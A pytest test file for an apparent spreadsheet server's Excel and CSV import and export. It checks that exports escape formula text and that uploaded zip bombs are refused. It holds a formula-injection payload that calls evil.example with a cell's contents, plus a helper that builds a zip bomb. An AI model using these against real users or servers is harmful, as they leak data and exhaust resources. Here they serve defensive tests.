"""Excel in and out, against a real server and real DuckDB files: table exports read
back by openpyxl, the grid's workbook, xlsx imports with their validation log, and
hostile workbooks (zip bombs, formulas, text that would run as a formula)."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from openpyxl import Workbook, load_workbook

from protocol.catalog import SUMMARY, TABLES
from protocol.errors import ProtocolError
from server.analytics import xlsx_import
from server.analytics.export_requests import XLSX_TYPE
from server.analytics.reports import to_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sheet_rows(content: bytes) -> tuple[Any, list[tuple[Any, ...]]]:
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    return sheet, list(sheet.iter_rows(values_only=True))


def as_cell(value: Any) -> Any:
    """A table value as openpyxl reads it back from our export."""
    if isinstance(value, dt.date):
        return dt.datetime.combine(value, dt.time())
    if isinstance(value, Decimal):
        return float(value)
    return value


@pytest.mark.parametrize("table", list(TABLES))
async def test_table_exports_as_xlsx(server, table: str):
    spec = TABLES[table]
    columns = ", ".join(spec.columns)
    expected = await server.services.db.read(
        lambda cur: cur.execute(
            f"SELECT {columns} FROM {table} ORDER BY {', '.join(spec.key)}"
        ).fetchall()
    )
    async with server.client() as http:
        response = await http.get(f"/export/{table}", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    _, rows = sheet_rows(response.content)
    assert rows[0] == tuple(spec.columns)
    assert [tuple(v for v in row) for row in rows[1:]] == [
        tuple(as_cell(v) for v in row) for row in expected
    ]


async def edit_product_name(server, name: str) -> None:
    edit = {
        "table": "product",
        "column": "product_name",
        "value": name,
        "condition": {"product_id": 1},
    }
    async with server.client() as http:
        response = await http.post("/update_cell?wait=5", json={"data": edit})
    assert response.status_code == 200, response.text


async def test_text_that_would_run_as_a_formula_is_inert_in_every_export(server):
    await edit_product_name(server, EVIL)
    async with server.client() as http:
        csv_text = (await http.get("/export/product", params={"format": "csv"})).text
        xlsx = (await http.get("/export/product", params={"format": "xlsx"})).content
        report = await http.get("/reports/top-5-by-revenue", params={"format": "csv", "limit": 100})
    fields = [f for row in csv.reader(io.StringIO(csv_text)) for f in row]
    assert "'" + EVIL in fields and EVIL not in fields
    sheet, _ = sheet_rows(xlsx)
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cell.data_type == "s"  # a string cell, never a formula
    report_fields = [f for row in csv.reader(io.StringIO(report.text)) for f in row]
    assert not any(f.startswith("=") for f in report_fields)
    # numbers keep their sign: only text is escaped
    assert any(f.startswith("-") or f[:1].isdigit() for f in report_fields)


def test_a_comparison_as_csv_is_inert_and_in_its_column_order():
    """`/compare?format=csv` renders with the reports' CSV: text that would run as a
    formula gets its quote, numbers keep their sign, columns keep their order."""
    data = {
        "columns": ["supplier", "a", "b", "ratio"],
        "rows": [{"ratio": None, "b": Decimal("2.50"), "a": Decimal("-1.5"), "supplier": EVIL}],
    }
    lines = list(csv.reader(io.StringIO(to_csv(data))))
    assert lines == [["supplier", "a", "b", "ratio"], ["'" + EVIL, "-1.5", "2.50", ""]]


async def test_the_grid_workbook_has_the_hierarchy_totals_and_the_view(server):
    def summary(cur):
        return cur.execute(
            f"SELECT supplier, brand, family, level, month, net_amount FROM {SUMMARY}"
        ).fetchall()

    cells = await server.services.db.read(summary)
    suppliers = sorted({s for s, _, _, level, _, _ in cells if level == 3}, key=str.casefold)
    first = suppliers[0]
    async with server.client() as http:
        response = await http.get("/grid/export", params={"expanded": f'[["{first}"]]'})
        bad = await http.get("/grid/export", params={"expanded": '[["a","b","c"]]'})
        bad_measure = await http.get("/grid/export", params={"measure": "price"})
    assert response.status_code == 200, response.text
    assert bad.status_code == 422 and bad_measure.status_code == 422
    sheet, rows = sheet_rows(response.content)
    months = sorted({m for *_, m, _ in cells if m is not None})
    assert rows[0] == ("Net amount", *months, "Total")
    total = {m: v for s, b, f, level, m, v in cells if level == 7}
    assert rows[1][0] == "Grand total"
    assert rows[1][-1] == float(total[None]) and rows[1][1] == float(total[months[0]])
    assert rows[2][0] == first  # then the first supplier, open, with its brands below
    brands = sorted(
        {b for s, b, _, level, _, _ in cells if level == 1 and s == first}, key=str.casefold
    )
    assert [rows[3 + i][0] for i in range(len(brands))][:1] == brands[:1]
    dims = sheet.row_dimensions
    assert dims[3].outline_level == 1 and not dims[3].hidden  # a supplier
    assert dims[4].outline_level == 2 and not dims[4].hidden  # a brand of the open supplier
    assert dims[5].outline_level == 3 and dims[5].hidden  # its families: brand collapsed
    node_rows = len({(s, b, f) for s, b, f, *_ in cells})
    assert sum(1 for r in rows[1:] if r[0] and not r[0].startswith("ducksheet")) == node_rows


def workbook(path: Path, rows: list[list[Any]]) -> Path:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


async def post_file(server, table: str, path: Path, **params: str):
    body = await asyncio.to_thread(path.read_bytes)
    async with server.client() as http:
        return await http.post(
            f"/import/{table}",
            params=params,
            content=body,
            headers={"content-type": XLSX_TYPE},
        )


HEADER = ["sale_id", "invoice_date", "product_id", "customer_id", "quantity", "net_price"]


async def test_xlsx_import_with_its_validation_log(server, tmp_path: Path):
    new = 10_000_000
    path = workbook(
        tmp_path / "new_sales.xlsx",
        [
            HEADER,
            [new + 1, dt.date(2025, 3, 1), 1, 1, 3, 12.5],  # row 2: good
            [new + 2, dt.date(2025, 3, 2), 1, 1, 5.7, 10],  # row 3: not a whole quantity
            [],  # row 4: blank in the middle, a row of missing values
            [new + 4, dt.date(2025, 3, 4), 999_999, 1, 1, 1],  # row 5: unknown product
            [new + 5, "2025-03-05", 1, 1, "=1+1", 2],  # row 6: a formula's text, not run
            [new + 6, dt.date(2025, 3, 6), 1, 1, 2, 20.25],  # row 7: good
        ],
    )
    response = await post_file(server, "sales", path, mode="validate")
    assert response.status_code == 200, response.text
    data = response.json()["data"]
    assert data["stats"]["inserted"] == 2 and data["stats"]["rejected"] == 4
    log = data["validation_log"]
    assert log["file_name"] == "sales.xlsx"
    assert {p["row_number"] for p in log["problems"]} == {3, 4, 5, 6}
    reason = {p["row_number"]: p for p in log["problems"] if p["column_name"] == "quantity"}
    assert reason[3]["value"] == "5.7"
    async with server.client() as http:
        paged = await http.get(
            f"/imports/{data['import_id']}/log", params={"limit": 1, "offset": 1}
        )
        as_csv = await http.get(f"/imports/{data['import_id']}/log", params={"format": "csv"})
        bad_id = await http.get("/imports/..%2Fx/log")
    assert paged.json()["data"]["total"] == log["total"]
    assert paged.json()["data"]["problems"] == log["problems"][1:2]
    lines = list(csv.reader(io.StringIO(as_csv.text)))
    assert lines[0] == ["row_number", "column_name", "value", "reason"]
    assert len(lines) == log["total"] + 1
    assert bad_id.status_code in (400, 404)
    stored = await server.services.db.read(
        lambda cur: cur.execute(
            "SELECT sale_id, quantity, net_price FROM sales WHERE sale_id > ? ORDER BY 1", [new]
        ).fetchall()
    )
    assert stored == [(new + 1, 3, Decimal("12.50")), (new + 6, 2, Decimal("20.25"))]


async def test_fast_mode_names_the_sheet_row(server, tmp_path: Path):
    path = workbook(
        tmp_path / "x.xlsx",
        [
            HEADER,
            [20_000_001, dt.date(2025, 1, 1), 1, 1, 1, 1],
            ["x", dt.date(2025, 1, 1), 1, 1, 1, 1],
        ],
    )
    response = await post_file(server, "sales", path)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["line"] == 3


def zip_bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (64 << 20))
    return path


async def test_hostile_workbooks_are_refused_before_inflating(server, tmp_path: Path):
    bomb = zip_bomb(tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < 1 << 20
    response = await post_file(server, "sales", bomb)
    assert response.status_code == 413, response.text
    assert response.json()["error"]["code"] == "too_big"
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"PK\x03\x04" + b"garbage" * 100)
    response = await post_file(server, "sales", junk)
    assert response.status_code == 422 and response.json()["error"]["code"] == "invalid_import"
    imports = server.services.settings.data_dir / "imports"
    assert not any(imports.iterdir())  # nothing left behind


def test_sheet_rows_become_csv_lines_and_the_csv_is_bounded(tmp_path: Path):
    path = workbook(
        tmp_path / "w.xlsx",
        [["a", "b"], ["two\nlines", 0.1], [], [True, 3.0], [None, None], []],
    )
    target = tmp_path / "w.csv"
    assert xlsx_import.to_csv(path, target, 1 << 20) == 4
    assert target.read_text().splitlines() == ["a,b", "two\x1flines,0.1", ",", "TRUE,3"]
    with pytest.raises(ProtocolError) as refused:
        xlsx_import.to_csv(path, tmp_path / "small.csv", 8)
    assert refused.value.code == "too_big" and not (tmp_path / "small.csv").exists()


def test_cli_exports_and_imports_xlsx(data_dir: Path, tmp_path: Path):
    out = tmp_path / "customer.xlsx"
    cli = [sys.executable, "-m", "server.cli"]
    done = subprocess.run(
        [
            *cli,
            "export",
            "--data-dir",
            str(data_dir),
            "--table",
            "customer",
            "--format",
            "xlsx",
            "--output",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    book = load_workbook(out, read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header = rows[0]
    changed = [dict(zip(header, row, strict=True)) for row in rows[1:3]]
    for row in changed:
        row["segment"] = "Imported"
    upsert = workbook(
        tmp_path / "upsert.xlsx", [list(header), *[list(r.values()) for r in changed]]
    )
    done = subprocess.run(
        [
            *cli,
            "import",
            "--data-dir",
            str(data_dir),
            str(upsert),
            "--table",
            "customer",
            "--upsert",
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "read 3 sheet rows" in done.stdout and "2 updated" in done.stdout
    with duckdb.connect(str(data_dir / "ducksheet.duckdb"), read_only=True) as con:
        assert con.execute(
            "SELECT count(*) FROM customer WHERE segment = 'Imported'"
        ).fetchone() == (2,)
